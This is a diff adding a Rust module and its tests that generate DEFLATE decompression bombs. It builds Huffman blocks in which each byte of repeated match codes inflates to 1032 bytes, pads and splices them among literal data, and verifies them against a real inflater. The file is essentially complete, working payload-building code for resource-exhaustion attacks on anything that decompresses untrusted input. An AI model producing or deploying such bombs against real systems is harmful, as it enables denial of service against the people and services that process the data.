@@ -0,0 +1,726 @@
+use crate::payload::huffman::{dist_symbol, length_symbol, lengths_with_code, write_dynamic_header,
+    BitWriter, Huffman, DIST_BASE, LENGTH_BASE, LENGTH_EXTRA};
+use crate::payload::lz77::compress;
+use num::{BigUint, Integer};
+use std::rc::Rc;
+
+/* A dynamic Huffman block that repeats the last period bytes over and over.
+ *
+ * Usually the only codes are end of block (0), one match length (1, 258 unless asked otherwise)
+ * and the distance period (0), so every match is the bits 1, the length's extra bits, 0 and then
+ * the distance's extra bits, and a run of matches is a periodic string of bits. Once the header has
+ * been padded out to a byte boundary with matches, the rest of the run is a bomb of the bytes that
+ * string makes, and whatever match a bomb ends in the middle of is finished off by the tail written
+ * after it.
+ *
+ * With a period that needs no distance extra bits, a match of 258 is 2 bits, so a byte of bomb is
+ * 4 matches and 1032 bytes of output. That's as far as DEFLATE goes: a block needs at least 2
+ * litlen codes (one is end of block) and a match needs a distance code too, even when there's only
+ * one, so no match is less than 2 bits or more than 258 bytes. */
+pub struct RepeatCode {
+    /* the distance matches copy from, some multiple of the pattern's length. This many bytes have
+     * to come before the block. */
+    period: usize,
+    length: usize,
+    litlen: Huffman,
+    dist: Huffman,
+    /* the bits of a match, in the order they're written */
+    match_code: Vec<u32>,
+    match_bits: usize,
+    /* the length of the match in a fixed Huffman padding block, and the bits in that block */
+    fixed_length: usize,
+    fixed_match_bits: usize,
+    header_bits: usize,
+    /* whole matches after the header, and the bits of the one after those before the bomb starts */
+    head_matches: usize,
+    head_partial: usize,
+    /* indexed by where the bomb left off in a match, for a block that's followed by another and
+     * one that ends the stream */
+    tail: Vec<Tail>,
+    last_tail: Vec<Tail>,
+    tail_bytes: usize,
+}
+
+/* What comes after the rest of the match a bomb ended in */
+#[derive(Clone, Copy)]
+struct Tail {
+    /* whole matches */
+    matches: usize,
+    /* Fixed Huffman blocks with one more match each, and empty ones, to pad with so every tail is
+     * tail_bytes long. The empty ones are 10 bits, which on their own can't pad out a match of
+     * 10 bits (or 5, or 2) to every length. */
+    fixed_matches: usize,
+    empty: usize,
+    /* For the end of the stream: whether the repeat block itself is the last block. If not, an
+     * empty last block comes after the padding. */
+    last: bool,
+}
+
+/* Finds the most matches (and then the least padding, fewer than fillers blocks of each kind)
+ * that brings a tail to between max - 7 and max bits, given the bits that don't depend on either.
+ * t and f are the bits in a match and in a fixed block with a match. */
+fn fit_tail(t: usize, f: usize, rest: usize, fixed: usize, max: usize, fillers: usize, last: bool)
+        -> Option<Tail> {
+    if rest + fixed > max {
+        return Option::None;
+    }
+    return (0..=(max - rest - fixed) / t).rev().find_map(|n| {
+        (0..std::cmp::min(n + 1, fillers)).find_map(|i| {
+            (0..fillers).find(|j| {
+                let bits = rest + (n - i) * t + i * f + 10 * j + fixed;
+                bits > max - 8 && bits <= max
+            }).map(|j| Tail {
+                matches: n - i,
+                fixed_matches: i,
+                empty: j,
+                last: last,
+            })
+        })
+    });
+}
+
+impl RepeatCode {
+    pub fn new(period: usize) -> RepeatCode {
+        return RepeatCode::with_length(period, 258);
+    }
+
+    /* Shorter matches make for a worse ratio, but a different string of bits for the bomb */
+    pub fn with_length(period: usize, length: usize) -> RepeatCode {
+        if period == 0 || period > 32768 {
+            panic!("DEFLATE bomb patterns must be 1 to 32768 bytes long");
+        }
+        let (len_sym, _len_extra, _len_bits) = length_symbol(length);
+        let (dist_sym, _dist_extra, _dist_bits) = dist_symbol(period);
+
+        let mut litlen = vec![0u8; 286];
+        litlen[256] = 1;
+        litlen[len_sym] = 1;
+        let mut dist = vec![0u8; dist_sym + 1];
+        dist[dist_sym] = 1;
+
+        let mut code = RepeatCode::with_codes(period, length, Huffman::from_lengths(litlen),
+                Huffman::from_lengths(dist));
+        code.fit_tails();
+        return code;
+    }
+
+    /* A code that makes a bomb of byte over and over, for a pattern of period bytes. Out of the
+     * ones there are, this is the one that writes the most data per bit of matches (and then the
+     * fewest literals before it).
+     *
+     * A match is a length code, the length's extra bits, a distance code and the distance's extra
+     * bits. Any string of 2, 4, 8 or 16 bits that fits those can be made into a match by picking
+     * Huffman codes with the right values, and then the distance has to be a multiple of the
+     * pattern, and no further back than the window. That's always possible for short patterns, but
+     * long ones (or small windows) leave few distances to choose from. */
+    pub fn for_byte(period: usize, byte: u8, window: usize) -> Option<RepeatCode> {
+        let default = RepeatCode::new(period);
+        if *default.pattern() == [byte] {
+            return Option::Some(default);
+        }
+
+        /* (bits in a match, length, distance, the bits of the match, bits in the length code) */
+        let mut candidates = Vec::<(usize, usize, usize, Vec<u32>, usize)>::new();
+        for t in [2, 4, 8, 16] {
+            /* the bomb can start anywhere in a match */
+            for rot in 0..std::cmp::min(t, 8) {
+                let bits: Vec<u32> = (0..t).map(|i| (byte as u32 >> ((i + rot) % 8)) & 1).collect();
+                /* extra bits, least significant first */
+                let value = |from: usize, to: usize| -> usize {
+                    return (from..to).rev().fold(0, |a, i| (a << 1) | bits[i] as usize);
+                };
+                for len_code in 0..LENGTH_BASE.len() {
+                    for dist_code in 0..DIST_BASE.len() {
+                        let e = LENGTH_EXTRA[len_code];
+                        let x = dist_symbol(DIST_BASE[dist_code]).2;
+                        if e + x + 2 > t {
+                            continue;
+                        }
+                        let distance = DIST_BASE[dist_code] + value(t - x, t);
+                        if !distance.is_multiple_of(period) || distance > window {
+                            continue;
+                        }
+                        /* every way of splitting what's left between the two codes */
+                        for k in 1..t - e - x {
+                            let length = LENGTH_BASE[len_code] + value(k, k + e);
+                            if length <= 258 && length_symbol(length).0 == 257 + len_code {
+                                candidates.push((t, length, distance, bits.clone(), k));
+                            }
+                        }
+                    }
+                }
+            }
+        }
+        /* the best ratio first */
+        candidates.sort_by(|a, b| (b.1 * a.0).cmp(&(a.1 * b.0)).then(a.2.cmp(&b.2)));
+
+        for (t, length, distance, bits, k) in candidates {
+            /* Huffman codes, most significant first */
+            let word = |from: usize, to: usize| -> u32 {
+                return (from..to).fold(0, |a, i| (a << 1) | bits[i]);
+            };
+            let (len_sym, _len_extra, e) = length_symbol(length);
+            let (dist_sym, _dist_extra, x) = dist_symbol(distance);
+            let litlen = lengths_with_code(286, len_sym, word(0, k), k, &[256]);
+            let dist = lengths_with_code(30, dist_sym, word(k + e, t - x), t - x - k - e, &[]);
+            if let (Option::Some(litlen), Option::Some(dist)) = (litlen, dist) {
+                let mut code = RepeatCode::with_codes(distance, length,
+                        Huffman::from_lengths(litlen), Huffman::from_lengths(dist));
+                if *code.pattern() == [byte] {
+                    code.fit_tails();
+                    return Option::Some(code);
+                }
+            }
+        }
+        return Option::None;
+    }
+
+    /* Everything but the tails, for a block with these codes */
+    fn with_codes(period: usize, length: usize, litlen: Huffman, dist: Huffman) -> RepeatCode {
+        let (_dist_sym, _dist_extra, dist_bits) = dist_symbol(period);
+
+        /* Usually 258, but with distances that have 7 extra bits those blocks would be 30 bits,
+         * and a multiple of 10 like empty blocks and (sometimes) matches. */
+        let fixed_length = if (23 + dist_bits) % 10 == 0 { 3 } else { 258 };
+        let (fixed_sym, _fixed_extra, fixed_bits) = length_symbol(fixed_length);
+
+        let mut code = RepeatCode {
+            period: period,
+            length: length,
+            litlen: litlen,
+            dist: dist,
+            match_code: Vec::new(),
+            match_bits: 0,
+            fixed_length: fixed_length,
+            fixed_match_bits: 3 + Huffman::fixed_litlen().bits(fixed_sym) + fixed_bits + 5
+                + dist_bits + 7,
+            header_bits: 0,
+            head_matches: 0,
+            head_partial: 0,
+            tail: Vec::new(),
+            last_tail: Vec::new(),
+            tail_bytes: 0,
+        };
+
+        let mut w = BitWriter::new();
+        code.write_symbols(&mut w, &code.litlen, &code.dist, length);
+        code.match_bits = w.bit_len();
+        let bytes = w.finish();
+        code.match_code = (0..code.match_bits).map(|i| (bytes[i / 8] >> (i % 8)) as u32 & 1)
+            .collect();
+
+        let mut w = BitWriter::new();
+        code.write_header(&mut w, false);
+        code.header_bits = w.bit_len();
+
+        let t = code.match_bits;
+        let mut pos = code.header_bits;
+        while !pos.is_multiple_of(8) && pos + t <= pos.next_multiple_of(8) {
+            pos += t;
+            code.head_matches += 1;
+        }
+        code.head_partial = pos.next_multiple_of(8) - pos;
+        return code;
+    }
+
+    fn fit_tails(&mut self) {
+        /* Each tail is the rest of a match, whole matches, the end of block code, fixed Huffman
+         * blocks with one match, empty ones (10 bits each) and 3 bits for the next block's header.
+         * All of them have to come out to the same number of bytes, which lets the tail go in a
+         * Block of known size.
+         *
+         * At the end of the stream there's no next block, and nothing can come after the last one.
+         * Either the repeat block is the last one and the tail stops right after it, or it ends
+         * with an empty fixed block (10 bits) marked last. */
+        let t = self.match_bits;
+        let f = self.fixed_match_bits;
+        let eob = self.litlen.bits(256);
+        self.tail_bytes = (t + 3).div_ceil(8);
+        loop {
+            let max = self.tail_bytes * 8;
+            let tails: Option<Vec<Tail>> = (0..t)
+                .map(|r| fit_tail(t, f, (t - r) % t, eob + 3, max, 8, false))
+                .collect();
+            let last_tails: Option<Vec<Tail>> = (0..t).map(|r| {
+                let rest = (t - r) % t;
+                let same = tails.as_ref().map(|tails| rest + tails[r].matches * t + eob)
+                    .filter(|bits| *bits > max - 8);
+                if same.is_some() {
+                    /* the same as if there were another block, so the sizes don't change */
+                    return Option::Some(Tail {
+                        matches: tails.as_ref().unwrap()[r].matches,
+                        fixed_matches: 0,
+                        empty: 0,
+                        last: true,
+                    });
+                }
+                return fit_tail(t, f, rest, eob, max, 1, true)
+                    .or_else(|| fit_tail(t, f, rest, eob + 10, max, 8, false));
+            }).collect();
+
+            if let (Option::Some(tails), Option::Some(last_tails)) = (tails, last_tails) {
+                self.tail = tails;
+                self.last_tail = last_tails;
+                return;
+            }
+            self.tail_bytes += 1;
+        }
+    }
+
+    /* BFINAL and BTYPE, then the code lengths */
+    fn write_header(&self, w: &mut BitWriter, last: bool) {
+        w.bits(last as u32, 1);
+        w.bits(2, 2);
+        write_dynamic_header(w, &self.litlen, &self.dist);
+    }
+
+    /* a whole match of length, in either code */
+    fn write_symbols(&self, w: &mut BitWriter, litlen: &Huffman, dist: &Huffman, length: usize) {
+        let (len_sym, len_extra, len_bits) = length_symbol(length);
+        let (dist_sym, dist_extra, dist_bits) = dist_symbol(self.period);
+        litlen.write(w, len_sym);
+        w.bits(len_extra, len_bits);
+        dist.write(w, dist_sym);
+        w.bits(dist_extra, dist_bits);
+    }
+
+    /* bit i of a match */
+    fn match_bit(&self, i: usize) -> u32 {
+        return self.match_code[i];
+    }
+
+    /* bits from to to of a match */
+    fn write_match(&self, w: &mut BitWriter, from: usize, to: usize) {
+        for i in from..to {
+            w.bits(self.match_bit(i), 1);
+        }
+    }
+
+    pub fn period(&self) -> usize {
+        return self.period;
+    }
+
+    /* The header and the start of the run, starting on a byte boundary. last is whether this is
+     * the last bomb of the stream, and phase is from phase(). */
+    pub fn write_head(&self, w: &mut BitWriter, last: bool, phase: usize) {
+        self.write_header(w, last && self.last_tail[self.end(phase)].last);
+        for _i in 0..self.head_matches {
+            self.write_match(w, 0, self.match_bits);
+        }
+        self.write_match(w, 0, self.head_partial);
+    }
+
+    pub fn head_bytes(&self) -> usize {
+        return (self.header_bits + self.head_matches * self.match_bits + self.head_partial) / 8;
+    }
+
+    /* The bytes the bomb repeats */
+    pub fn pattern(&self) -> Box<[u8]> {
+        let t = self.match_bits;
+        let len = t / t.gcd(&8);
+        let bytes: Vec<u8> = (0..len).map(|j| {
+            (0..8).map(|i| (self.match_bit((self.head_partial + 8 * j + i) % t) as u8) << i)
+                .fold(0, |a, b| a | b)
+        }).collect();
+        /* as short as it goes, e.g. 16 bit matches can make the same byte twice */
+        let shortest = (1..=len)
+            .find(|n| len.is_multiple_of(*n) && (*n..len).all(|i| bytes[i] == bytes[i - n]))
+            .unwrap();
+        return bytes[..shortest].into();
+    }
+
+    /* What the head and tail need to know about a bomb of size bytes */
+    pub fn phase(&self, size: &BigUint) -> usize {
+        return (size % self.match_bits).to_u64_digits().first().copied().unwrap_or(0) as usize;
+    }
+
+    /* where a bomb with this phase left off in a match */
+    fn end(&self, phase: usize) -> usize {
+        return (self.head_partial + 8 * phase) % self.match_bits;
+    }
+
+    fn tail(&self, phase: usize, last: bool) -> Tail {
+        let r = self.end(phase);
+        return if last { self.last_tail[r] } else { self.tail[r] };
+    }
+
+    /* How many matches the repeat block has with a bomb of size bytes, head and tail included */
+    pub fn matches(&self, size: &BigUint, last: bool) -> BigUint {
+        let bits = size * 8u8 + self.head_partial;
+        let tail = self.tail(self.phase(size), last);
+        return bits.div_ceil(&BigUint::from(self.match_bits)) + self.head_matches + tail.matches;
+    }
+
+    /* The bytes of data a bomb of size bytes expands to, the first period and the padding blocks'
+     * matches included */
+    pub fn expanded(&self, size: &BigUint, last: bool) -> BigUint {
+        let fixed = self.tail(self.phase(size), last).fixed_matches * self.fixed_length;
+        return self.matches(size, last) * self.length + fixed + self.period;
+    }
+
+    /* The end of the block after a bomb. If another block follows, its 3 bit header goes right
+     * after this, and then the tail is exactly tail_bytes long. */
+    pub fn write_tail(&self, w: &mut BitWriter, phase: usize, last: bool) {
+        let start = w.bit_len();
+        let r = self.end(phase);
+        let tail = self.tail(phase, last);
+        if r != 0 {
+            self.write_match(w, r, self.match_bits);
+        }
+        for _i in 0..tail.matches {
+            self.write_match(w, 0, self.match_bits);
+        }
+        self.litlen.write(w, 256);
+
+        for _i in 0..tail.fixed_matches {
+            /* not last, fixed Huffman, the match, end of block */
+            w.bits(0b010, 3);
+            let (litlen, dist) = (Huffman::fixed_litlen(), Huffman::fixed_dist());
+            self.write_symbols(w, &litlen, &dist, self.fixed_length);
+            w.bits(0, 7);
+        }
+        for _i in 0..tail.empty {
+            /* not last, fixed Huffman, end of block */
+            w.bits(0b010, 3);
+            w.bits(0, 7);
+        }
+        if last {
+            if !tail.last {
+                /* last, fixed Huffman, end of block */
+                w.bits(0b011, 3);
+                w.bits(0, 7);
+            }
+            w.align();
+            if w.bit_len() != start + self.tail_bytes * 8 {
+                panic!("DEFLATE tail came out the wrong length");
+            }
+        }
+    }
+
+    pub fn tail_bytes(&self) -> usize {
+        return self.tail_bytes;
+    }
+}
+
+/* A stretch of the literal data between bombs: stored blocks of that many bytes, or a compressed
+ * block (BFINAL clear) of bytes that were known when the payload was built, and how many */
+pub enum Piece {
+    Stored(usize),
+    Compressed(Rc<BitWriter>, usize),
+}
+
+/* Literal data as it's known before filling: the bytes, or how many there will be */
+pub enum Run<'a> {
+    Known(&'a [u8]),
+    Unknown(usize),
+}
+
+/* How literal data goes between two bombs, and how many bytes it takes up. after_tail is the
+ * previous repeat block's tail_bytes if there is one, which also covers the first stored block's
+ * header. The first piece after a tail has to be stored, and a bomb's head has to start on a byte
+ * boundary, so empty stored blocks are added where a compressed block would break either. */
+fn layout(mut pieces: Vec<Piece>, after_tail: Option<usize>, head: bool) -> (Vec<Piece>, usize) {
+    if pieces.is_empty() || (after_tail.is_some() && matches!(pieces[0], Piece::Compressed(..))) {
+        pieces.insert(0, Piece::Stored(0));
+    }
+
+    let mut bits = after_tail.unwrap_or(0) * 8;
+    for (i, piece) in pieces.iter().enumerate() {
+        match piece {
+            Piece::Stored(len) => {
+                let blocks = std::cmp::max(usize::div_ceil(*len, 0xffff), 1);
+                for j in 0..blocks {
+                    if !(i == 0 && j == 0 && after_tail.is_some()) {
+                        bits = (bits + 3).next_multiple_of(8);
+                    }
+                    bits += 32;
+                }
+                bits += len * 8;
+            }
+            Piece::Compressed(block, _len) => {
+                bits += block.bit_len();
+            }
+        }
+    }
+    if head && !bits.is_multiple_of(8) {
+        pieces.push(Piece::Stored(0));
+        bits = (bits + 3).next_multiple_of(8) + 32;
+    }
+    return (pieces, bits.div_ceil(8));
+}
+
+/* How much of a known run plan() tries compressing before the rest of it */
+const SAMPLE: usize = 1 << 16;
+
+/* Picks which known runs to compress, for the fewest bytes. Ties go to stored blocks. */
+pub fn plan(runs: &[Run], after_tail: Option<usize>, head: bool, compress_literals: bool,
+            window: usize) -> (Vec<Piece>, usize) {
+    /* A long run is only compressed if its start shrinks, so data that won't (an image, say)
+     * doesn't go through LZ77 just to end up stored */
+    let worth_trying = |data: &[u8]| -> bool {
+        return data.len() <= SAMPLE || compress(&data[..SAMPLE], window).bit_len() < SAMPLE * 8;
+    };
+    let compressed: Vec<Option<Rc<BitWriter>>> = runs.iter().map(|run| match run {
+        Run::Known(data) if compress_literals && worth_trying(data) => {
+            Option::Some(Rc::new(compress(data, window)))
+        }
+        _ => Option::None,
+    }).collect();
+    let known: Vec<usize> = (0..runs.len()).filter(|i| compressed[*i].is_some()).collect();
+
+    let pieces = |chosen: &[bool]| -> Vec<Piece> {
+        let mut ret = Vec::<Piece>::new();
+        for (i, run) in runs.iter().enumerate() {
+            let len = match run {
+                Run::Known(data) => data.len(),
+                Run::Unknown(len) => *len,
+            };
+            if chosen[i] {
+                ret.push(Piece::Compressed(compressed[i].clone().unwrap(), len));
+            } else if let Option::Some(Piece::Stored(prev)) = ret.last_mut() {
+                *prev += len;
+            } else {
+                ret.push(Piece::Stored(len));
+            }
+        }
+        return ret;
+    };
+
+    /* Every combination if there aren't many, otherwise each one on its own */
+    let mut best = layout(pieces(&vec![false; runs.len()]), after_tail, head);
+    if known.len() <= 8 {
+        for mask in 1..1usize << known.len() {
+            let mut chosen = vec![false; runs.len()];
+            for (bit, i) in known.iter().enumerate() {
+                chosen[*i] = mask & (1 << bit) != 0;
+            }
+            let candidate = layout(pieces(&chosen), after_tail, head);
+            if candidate.1 < best.1 {
+                best = candidate;
+            }
+        }
+    } else {
+        let chosen: Vec<bool> = (0..runs.len()).map(|i| match (&runs[i], &compressed[i]) {
+            (Run::Known(data), Option::Some(block)) => block.bit_len() < data.len() * 8,
+            _ => false,
+        }).collect();
+        let candidate = layout(pieces(&chosen), after_tail, head);
+        if candidate.1 < best.1 {
+            best = candidate;
+        }
+    }
+    return best;
+}
+
+/* Writes the pieces for data, setting BFINAL on the last block if last. The caller writes
+ * whatever comes before and after. */
+pub fn write_pieces(w: &mut BitWriter, pieces: &[Piece], data: &[u8], last: bool) {
+    let mut pos = 0;
+    for (i, piece) in pieces.iter().enumerate() {
+        let last_piece = last && i + 1 == pieces.len();
+        match piece {
+            Piece::Stored(len) => {
+                let blocks = std::cmp::max(usize::div_ceil(*len, 0xffff), 1);
+                for j in 0..blocks {
+                    let this_len = std::cmp::min(len - j * 0xffff, 0xffff);
+                    w.bits((last_piece && j + 1 == blocks) as u32, 1);
+                    w.bits(0, 2);
+                    w.align();
+
+                    /* length, then its ones complement */
+                    w.bytes(&(this_len as u16).to_le_bytes());
+                    w.bytes(&(!this_len as u16).to_le_bytes());
+                    w.bytes(&data[pos..pos + this_len]);
+                    pos += this_len;
+                }
+            }
+            Piece::Compressed(block, len) => {
+                w.bits(last_piece as u32, 1);
+                w.append(block, 1);
+                pos += len;
+            }
+        }
+    }
+    if last {
+        w.align();
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::payload::inflate::inflate;
+    use crate::payload::lz77::WINDOW;
+
+    /* The single byte code is the one ied always used */
+    #[test]
+    fn test_single_byte() {
+        let code = RepeatCode::new(1);
+        let mut w = BitWriter::new();
+        code.write_head(&mut w, false, 0);
+        assert_eq!(w.finish(), [0xec, 0xc0, 0x81, 0x00, 0x00, 0x00, 0x00, 0x00, 0x90, 0xff, 0x6b,
+                0x23, 0x54]);
+        assert_eq!(*code.pattern(), [0x55]);
+
+        let mut w = BitWriter::new();
+        code.write_tail(&mut w, 0, false);
+        w.bits(0, 3);
+        w.align();
+        assert_eq!(w.finish(), [0x05]);
+        for last in [false, true] {
+            assert_eq!(code.expanded(&BigUint::from(7u8), last), BigUint::from(7u32 * 1032 + 1291));
+        }
+    }
+
+    #[test]
+    fn test_tails() {
+        /* every period has to find tails at all */
+        for period in 1..=32768 {
+            RepeatCode::new(period);
+        }
+        for period in [1, 2, 4, 5, 7, 9, 16, 17, 100, 256, 257, 1000, 1001, 4096, 32768] {
+            let code = RepeatCode::new(period);
+            for phase in 0..code.match_bits {
+                for last in [false, true] {
+                    let mut w = BitWriter::new();
+                    code.write_tail(&mut w, phase, last);
+                    if !last {
+                        w.bits(0, 3);
+                        w.align();
+                    }
+                    assert_eq!(w.bit_len(), code.tail_bytes() * 8);
+                }
+            }
+        }
+    }
+
+    /* A whole stream of first (one period) as a stored block, the head, size bytes of bomb and the
+     * tail, ending in an empty stored block unless last */
+    fn stream(code: &RepeatCode, first: &[u8], size: usize, last: bool) -> Vec<u8> {
+        let period = code.period();
+        let phase = code.phase(&BigUint::from(size));
+        let mut w = BitWriter::new();
+        w.bits(0, 3);
+        w.align();
+        w.bytes(&(period as u16).to_le_bytes());
+        w.bytes(&(!period as u16).to_le_bytes());
+        w.bytes(first);
+        code.write_head(&mut w, last, phase);
+        let data: Vec<u8> = code.pattern().iter().cycle().take(size).copied().collect();
+        w.bytes(&data);
+        code.write_tail(&mut w, phase, last);
+        if !last {
+            w.bits(1, 3);
+            w.align();
+            w.bytes(&[0x00, 0x00, 0xff, 0xff]);
+        }
+        return w.finish();
+    }
+
+    /* Streams with every small bomb size, checked by inflating them. pattern is how often the data
+     * repeats, which the period is a multiple of. */
+    fn assert_inflates(code: &RepeatCode, pattern: usize) {
+        let first: Vec<u8> = (0..code.period()).map(|i| (i % pattern * 7 % 251) as u8).collect();
+        for size in 0..2 * code.pattern().len() + 3 {
+            for last in [false, true] {
+                let data = stream(code, &first, size, last);
+
+                let (out, len) = inflate(&data).unwrap();
+                assert_eq!(len, data.len());
+                assert_eq!(BigUint::from(out.len()), code.expanded(&BigUint::from(size), last));
+                assert!(out.iter().enumerate().all(|(i, b)| *b == first[i % pattern]));
+
+                /* and a real inflater agrees, with an empty last block to end the stream */
+                let mut stream = data.clone();
+                if !last {
+                    stream.extend_from_slice(&[0x03, 0x00]);
+                }
+                assert_eq!(miniz_oxide::inflate::decompress_to_vec(&stream).unwrap(), out);
+            }
+        }
+    }
+
+    #[test]
+    fn test_inflated() {
+        for period in [1, 3, 5, 17, 300, 1001] {
+            for length in [3, 10, 11, 100, 257, 258] {
+                assert_inflates(&RepeatCode::with_length(period, length), period);
+            }
+        }
+    }
+
+    #[test]
+    fn test_plan() {
+        let mut x = 1u32;
+        let noise: Vec<u8> = (0..100000).map(|_i| {
+            /* xorshift */
+            x ^= x << 13;
+            x ^= x >> 17;
+            x ^= x << 5;
+            return x as u8;
+        }).collect();
+        let text = b"<p>hello</p>".repeat(10000);
+        let (pieces, len) = plan(&[Run::Known(&noise)], Option::None, true, true, WINDOW);
+        assert!(matches!(pieces[..], [Piece::Stored(100000)]));
+        assert_eq!(len, 100000 + 2 * 5);
+        let (pieces, len) = plan(&[Run::Known(&text)], Option::None, true, true, WINDOW);
+        assert!(matches!(pieces[0], Piece::Compressed(_, 120000)));
+        assert!(len < 1000);
+    }
+
+    /* Nothing beats 1032 bytes per byte of bomb, and the usual code gets there */
+    #[test]
+    fn test_ratio() {
+        let per_byte = |code: &RepeatCode| {
+            let added = code.expanded(&BigUint::from(2000u32), false)
+                - code.expanded(&BigUint::from(1000u32), false);
+            return added / BigUint::from(1000u32);
+        };
+        assert_eq!(per_byte(&RepeatCode::new(1)), BigUint::from(1032u32));
+
+        /* which is what a real inflater makes of it */
+        let code = RepeatCode::new(1);
+        let first = vec![0x55; code.period()];
+        let inflated = |size| {
+            return miniz_oxide::inflate::decompress_to_vec(&stream(&code, &first, size, true))
+                .unwrap();
+        };
+        let (small, large) = (inflated(1000), inflated(2000));
+        assert_eq!(large.len() - small.len(), 1032 * 1000);
+        assert_eq!(BigUint::from(large.len()), code.expanded(&BigUint::from(2000u32), true));
+        assert!(large.iter().all(|b| *b == 0x55));
+        for period in [1, 2, 3, 5, 300, 32768] {
+            for length in [3, 100, 257, 258] {
+                assert!(per_byte(&RepeatCode::with_length(period, length)) <= BigUint::from(1032u32));
+            }
+        }
+        for byte in (0..=255).step_by(15) {
+            assert!(per_byte(&RepeatCode::for_byte(1, byte, WINDOW).unwrap())
+                    <= BigUint::from(1032u32));
+        }
+    }
+
+    #[test]
+    fn test_for_byte() {
+        /* the usual code is the best there is */
+        assert_eq!(RepeatCode::for_byte(1, 0x55, WINDOW).unwrap().header_bits,
+                RepeatCode::new(1).header_bits);
+
+        for (period, byte) in [(1, 0x00), (1, 0xff), (1, 0x80), (1, 0x41), (2, 0x55), (3, 0xc3)] {
+            let code = RepeatCode::for_byte(period, byte, WINDOW).unwrap();
+            assert_eq!(*code.pattern(), [byte]);
+            assert!(code.period().is_multiple_of(period));
+            assert_inflates(&code, period);
+
+            /* a smaller window gets a worse code rather than one that looks too far back */
+            let code = RepeatCode::for_byte(period, byte, 256).unwrap();
+            assert_eq!(*code.pattern(), [byte]);
+            assert!(code.period() <= 256);
+        }
+        /* as good as 0x55, apart from the head and tail */
+        let code = RepeatCode::for_byte(1, 0x00, WINDOW).unwrap();
+        let added = code.expanded(&BigUint::from(200u8), false)
+            - code.expanded(&BigUint::from(100u8), false);
+        assert_eq!(added, BigUint::from(100u32 * 1032));
+    }
+}